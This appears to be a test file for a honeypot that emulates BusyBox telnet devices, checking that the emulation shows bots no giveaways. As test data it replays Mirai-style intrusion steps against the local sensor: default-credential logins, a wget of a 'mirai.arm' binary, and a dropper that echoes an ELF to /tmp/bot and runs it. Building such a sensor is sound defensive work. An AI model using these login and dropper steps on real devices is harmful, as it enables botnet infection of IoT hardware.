@@ -1,0 +1,283 @@
+"""No tells (issue 13): what a BusyBox device shows that a careful bot or person checks. Time
+passes as commands claim (sleep on the session's timer; ^C and IAC IP interrupt it); telnetd's
+options and banner per version; login without a password prompt for an account without one;
+`id` as the real BusyBox prints it (tests/data/busybox)."""
+import hashlib
+import os
+import random
+import re
+import socket
+import sys
+import threading
+import time
+import unittest
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import harness  # noqa: E402
+from harness import TelnetBot  # noqa: E402
+
+DATA = os.path.join(harness.ROOT, 'tests', 'data', 'busybox')
+PROFILES = ['dvr-hi3520d', 'router-mt7620', 'router-rtl8196c', 'stb-stx7111']
+IAC, DO, WILL = 255, 253, 251
+ECHO, SGA, NAWS, LFLOW = 1, 3, 31, 33
+
+
+def recorded(name):
+    with open(os.path.join(DATA, name), 'rb') as f:
+        return f.read()
+
+
+class FidelityTest(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.ports = {name: harness.free_port() for name in PROFILES}
+        cls.sensor = harness.Sensor(
+            listens=['telnet@127.0.0.1:%d/%s' % (port, name) for name, port in cls.ports.items()],
+            sets=['box.auto=false', 'telnet.fail_delay_ms=0', 'capture.allow_private=true'])
+        cls.sensor.start()
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.sensor.stop()
+        cls.sensor.cleanup()
+
+    def shell(self, name='dvr-hi3520d', user='root', password='xc3511'):
+        bot = TelnetBot(self.ports[name], timeout=15)
+        self.addCleanup(bot.close)
+        bot.read_until_token(b'login: ')
+        bot.sendline(user)
+        if password is not None:
+            bot.read_until_token(b'Password: ')
+            bot.sendline(password)
+        bot.read_until_token(b'# ')
+        return bot
+
+    def test_sleep_takes_the_time_it_claims(self):
+        bot = self.shell()
+        start = time.monotonic()
+        bot.sendline('sleep 2; echo slept')
+        bot.read_until_token(b'\r\nslept\r\n')  # the output, not the echoed line
+        self.assertGreaterEqual(time.monotonic() - start, 2.0)
+        start = time.monotonic()
+        bot.sendline('usleep 300000; echo woke')
+        bot.read_until_token(b'\r\nwoke\r\n')
+        self.assertGreaterEqual(time.monotonic() - start, 0.3)
+
+    def test_ctrl_c_interrupts_sleep(self):
+        for intr in (b'\x03', bytes([IAC, 244])):  # ^C, and Telnet's Interrupt Process
+            bot = self.shell()
+            start = time.monotonic()
+            bot.sendline('sleep 60; echo not-reached')
+            bot.read_until_token(b'sleep 60; echo not-reached\r\n')  # the echo: sleep runs
+            bot.send(intr)
+            out = bot.read_until_token(b'# ')
+            self.assertIn(b'^C\r\n', out)
+            self.assertLess(time.monotonic() - start, 30)
+            bot.sendline('echo status=$?')
+            out = bot.read_until_token(b'# ')
+            self.assertIn(b'status=130', out)
+            self.assertNotIn(b'\nnot-reached\r\n', bytes(bot.text))  # only the echoed line has it
+
+    def test_telnetd_options_and_banner_per_version(self):
+        lflow = {'router-mt7620': True, 'router-rtl8196c': True}  # BusyBox 1.12, 1.13
+        for name, port in self.ports.items():
+            bot = TelnetBot(port, timeout=15)
+            self.addCleanup(bot.close)
+            bot.read_until_token(b'login: ')
+            opts = [IAC, DO, ECHO, IAC, DO, NAWS] + ([IAC, DO, LFLOW] if lflow.get(name) else [])
+            opts += [IAC, WILL, ECHO, IAC, WILL, SGA]
+            self.assertEqual(bytes(bot.raw[:len(opts)]), bytes(opts), name)
+            # print_login_issue: puts("\r") through the pty, then /etc/issue.net, "\n\r" a line
+            banner = bytes(bot.text)
+            if name == 'stb-stx7111':
+                self.assertTrue(banner.startswith(b'\r\r\nopenpli 4 spark\r\n\r\r\n\rspark login: '),
+                                banner)
+            else:
+                self.assertTrue(banner.startswith(b'\r\r\n') and banner.count(b'\n') == 1, banner)
+
+    def test_login_asks_no_password_for_an_account_without_one(self):
+        bot = TelnetBot(self.ports['stb-stx7111'], timeout=15)
+        self.addCleanup(bot.close)
+        bot.read_until_token(b'login: ')
+        bot.sendline('root')
+        out = bot.read_until_token(b'# ')
+        self.assertNotIn(b'assword', out)
+        self.sensor.events(wait_for=('mitsu.login.success',
+                                     lambda e: e['username'] == 'root' and e['password'] == ''))
+
+    def test_login_incorrect_has_one_cr(self):
+        bot = TelnetBot(self.ports['dvr-hi3520d'], timeout=15)
+        self.addCleanup(bot.close)
+        bot.read_until_token(b'login: ')
+        bot.sendline('root')
+        bot.read_until_token(b'Password: ')
+        bot.sendline('wrong')
+        out = bot.read_until_token(b'login: ')
+        self.assertIn(b'\r\nLogin incorrect\r\nHI3520D login: ', out)
+
+    def test_id_as_busybox_prints_it(self):
+        bot = self.shell()
+        out = bot.command('id', 'IDEND')
+        self.assertEqual(out.split(b'\r\n')[1] + b'\n', recorded('id.txt'))
+
+    def test_dev_as_the_kernel_made_it(self):
+        bot = self.shell()
+        out = bot.command("echo -e 'x' > /dev/pts/.nippon; /bin/busybox cat /dev/pts/.nippon", 'DEVEND')
+        self.assertIn(b"-sh: can't create /dev/pts/.nippon: Permission denied", out)
+        out = bot.command("echo -e 'kami' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon", 'DEVEND')
+        self.assertIn(b'\r\nkami\r\n', out)  # /dev is a tmpfs on this DVR
+        out = bot.command('ls /dev/pts; ls /dev/ttyAMA0 /dev/mtdblock2 /dev/mtdblock5', 'DEVEND')
+        self.assertIn(b'\r\n0\r\n', out)     # the session's own terminal
+        self.assertNotIn(b'No such file', out)  # getty's tty and the mounted flash partitions
+        # every mount point of /proc/mounts exists, on every profile
+        for name, user, password in (('dvr-hi3520d', 'root', 'xc3511'),
+                                     ('router-mt7620', 'admin', 'admin'),
+                                     ('router-rtl8196c', 'admin', 'admin'),
+                                     ('stb-stx7111', 'root', None)):
+            bot = self.shell(name, user, password)
+            out = bot.command('for d in $(cut -d" " -f2 /proc/mounts); do [ -d $d ] || echo missing $d; done',
+                              'MNTEND')
+            self.assertNotIn(b'\nmissing', out, name)
+
+    def test_proc_agrees_with_ps(self):
+        for name, user, password in (('dvr-hi3520d', 'root', 'xc3511'),
+                                     ('router-mt7620', 'admin', 'admin'),
+                                     ('router-rtl8196c', 'admin', 'admin'),
+                                     ('stb-stx7111', 'root', None)):
+            bot = self.shell(name, user, password)
+            ps = bot.command('/bin/busybox ps', 'PSEND').decode().split('\r\n')[2:-1]
+            procs = {}
+            for line in ps:
+                f = line.split(None, 4)
+                if f and f[0].isdigit() and f[4] != 'ps':
+                    procs[int(f[0])] = f[4]
+            listed = bot.command('ls /proc', 'LSEND').decode().split()
+            for pid, cmd in procs.items():
+                self.assertIn(str(pid), listed, name)
+                out = bot.command('cat /proc/%d/stat /proc/%d/cmdline; echo; cat /proc/%d/status'
+                                  % (pid, pid, pid), 'STEND').replace(b'\0', b' ').decode()
+                lines = out.split('\r\n')
+                at = [i for i, l in enumerate(lines) if l.startswith('%d (' % pid)]
+                self.assertTrue(at, (name, out))
+                stat, cmdline = lines[at[0]], lines[at[0] + 1]
+                if cmd.startswith('['):
+                    comm = cmd.strip('[]')[:15]
+                else:
+                    comm = cmd.split()[0].rsplit('/', 1)[-1].lstrip('-')[:15]
+                self.assertIn('(%s)' % comm, stat, name)
+                self.assertIn('Pid:\t%d' % pid, out, name)
+                if not cmd.startswith('['):
+                    self.assertEqual(cmdline.strip(), cmd.strip(), name)
+            out = bot.command('echo $$; ls -l /proc/self; cat /proc/uptime; uptime', 'UPEND').decode()
+            lines = [l for l in out.split('\r\n') if l and 'UPEND' not in l]
+            self.assertIn('/proc/self -> %s' % lines[0], out, name)
+            up = float(lines[2].split()[0])
+            days = int(up // 86400)
+            if days:
+                self.assertIn('up %d day' % days, lines[3], name)
+
+    def test_dump_applets_as_busybox_prints_them(self):
+        # dvr-hi3520d has hexdump (BusyBox 1.16), stb-stx7111 hexdump and od (1.22); both little
+        # endian, as the machine that recorded the answers.
+        for name, user, password, applets in (('dvr-hi3520d', 'root', 'xc3511', ['hexdump']),
+                                              ('stb-stx7111', 'root', None, ['hexdump', 'od'])):
+            bot = self.shell(name, user, password)
+            bot.command("printf 'abcdefghijklmnopqrstuvwxyz\\n' > /tmp/alpha", 'PEND')
+            cases = [('hexdump%s /tmp/alpha' % (' ' + f if f else ''),
+                      'hexdump%s.txt' % (f or '_default')) for f in ('', '-C', '-b', '-c', '-d', '-o', '-x')]
+            cases += [('dd if=/dev/zero bs=64 count=1 2>/dev/null | hexdump -C', 'dd_zero_hexdump_C.txt'),
+                      ('dd if=/dev/zero bs=64 count=1 2>/dev/null | hexdump -v -C', 'dd_zero_hexdump_vC.txt')]
+            if 'od' in applets:
+                cases.append(('od /tmp/alpha', 'od_default.txt'))
+            for cmd, want in cases:
+                out = bot.command(cmd, 'DUMPEND')
+                got = out.split(b'DUMPEND\r\n', 1)[1].replace(b'\r\n', b'\n')
+                self.assertEqual(got, recorded(want), (name, cmd))
+
+    def test_message_wording_per_version(self):
+        # libbb said "cannot" until BusyBox 1.13 and "can't" from 1.14 on (busybox 1.35 says
+        # "rm: can't remove '/x': No such file or directory")
+        for name, user, password, word in (('router-rtl8196c', 'admin', 'admin', b'cannot'),
+                                           ('dvr-hi3520d', 'root', 'xc3511', b"can't")):
+            bot = self.shell(name, user, password)
+            out = bot.command('rm /tmp/.nippon', 'RMEND')
+            self.assertIn(b'rm: ' + word + b" remove '/tmp/.nippon': No such file or directory",
+                          out, name)
+
+    def test_wget_request_is_busybox_wget(self):
+        srv = socket.socket()
+        srv.bind(('127.0.0.1', 0))
+        srv.listen(1)
+        self.addCleanup(srv.close)
+        port = srv.getsockname()[1]
+        got = {}
+
+        def serve():
+            c, _ = srv.accept()
+            req = b''
+            while b'\r\n\r\n' not in req:
+                req += c.recv(4096)
+            got['req'] = req
+            c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')
+            c.close()
+        t = threading.Thread(target=serve, daemon=True)
+        t.start()
+        bot = self.shell()
+        bot.command('wget -q -O /tmp/m http://127.0.0.1:%d/bins/mirai.arm' % port, 'WGEND')
+        t.join(10)
+        self.assertEqual(got['req'].replace(b':%d' % port, b':PORT'), recorded('wget_request.txt'))
+
+    def test_ps1_and_history(self):
+        bot = self.shell()
+        out = bot.command('echo "[$PS1]"', 'PSEND')
+        self.assertIn(b'\r\n[\\w \\$ ]\r\n', out)   # /etc/profile's PS1='\w \$ '
+        bot.sendline("PS1='\\h> '")
+        bot.read_until_token(b'HI3520D> ')            # ash prompts with $PS1
+        out = bot.command('history', 'HEND')
+        self.assertIn(b'   0 echo "[$PS1]"; /bin/busybox PSEND\r\n'
+                      b"   1 PS1='\\h> '\r\n"
+                      b'   2 history; /bin/busybox HEND\r\n', out)
+
+    def test_tty(self):
+        bot = self.shell()
+        out = bot.command('tty; echo $?; tty < /dev/null; echo $?', 'TTYEND')
+        self.assertIn(b'\r\n/dev/pts/0\r\n0\r\nnot a tty\r\n1\r\n', out)
+
+    def test_proc_net_agrees_with_ifconfig_and_ip(self):
+        for name, user, password, be in (('dvr-hi3520d', 'root', 'xc3511', False),
+                                         ('router-rtl8196c', 'admin', 'admin', True)):
+            bot = self.shell(name, user, password)
+            out = bot.command('cat /proc/net/dev /proc/net/route /proc/net/arp; ifconfig eth0',
+                              'NETEND').decode()
+            rx = re.search(r'RX bytes:(\d+)', out).group(1)
+            self.assertRegex(out, r'eth0:\s*%s ' % rx, name)
+            ip = re.search(r'inet addr:(\d+)\.(\d+)\.(\d+)\.\d+', out).groups()
+            gw = bytes([int(ip[0]), int(ip[1]), int(ip[2]), 1])
+            hexgw = (gw if be else gw[::-1]).hex().upper()  # the kernel's __be32 as %08X
+            self.assertIn('eth0\t00000000\t%s\t0003' % hexgw, out, name)
+            self.assertIn('%s.%s.%s.1 ' % ip, out, name)  # the gateway in the ARP table
+
+    def test_elf_of_the_right_cpu_that_is_no_program_crashes(self):
+        # A well-formed ARM header whose program headers are noise: the kernel maps nothing
+        # executable at the entry point, the process dies of SIGSEGV, ash says so.
+        rnd = random.Random(13)
+        body = bytearray(rnd.getrandbits(8) for _ in range(300))
+        u16 = lambda v: v.to_bytes(2, 'little')  # noqa: E731
+        u32 = lambda v: v.to_bytes(4, 'little')  # noqa: E731
+        hdr = b'\x7fELF\x01\x01\x01' + bytes(9) + u16(2) + u16(40) + u32(1) + u32(0x8000)
+        hdr += u32(52) + u32(0) + u32(0x5000002) + u16(52) + u16(32) + u16(2) + u16(40) + u16(0) * 2
+        body[:len(hdr)] = hdr
+        for i in range(52, 52 + 64, 32):
+            body[i:i + 4] = u32(0x70000000 + i)  # processor-specific types: nothing loaded
+        bot = self.shell()
+        for i in range(0, len(body), 128):
+            chunk = ''.join('\\x%02x' % b for b in body[i:i + 128])
+            bot.command("echo -ne '%s' %s /tmp/bot" % (chunk, '>' if i == 0 else '>>'), 'UPEND')
+        out = bot.command('chmod 777 /tmp/bot; /tmp/bot; echo status=$?', 'RUNEND')
+        self.assertIn(b'\r\nSegmentation fault\r\nstatus=139\r\n', out)
+        want = hashlib.sha256(bytes(body)).hexdigest()
+        self.sensor.events(wait_for=('mitsu.session.file_upload', lambda e: e['shasum'] == want))
+
+
+if __name__ == '__main__':
+    harness.main()
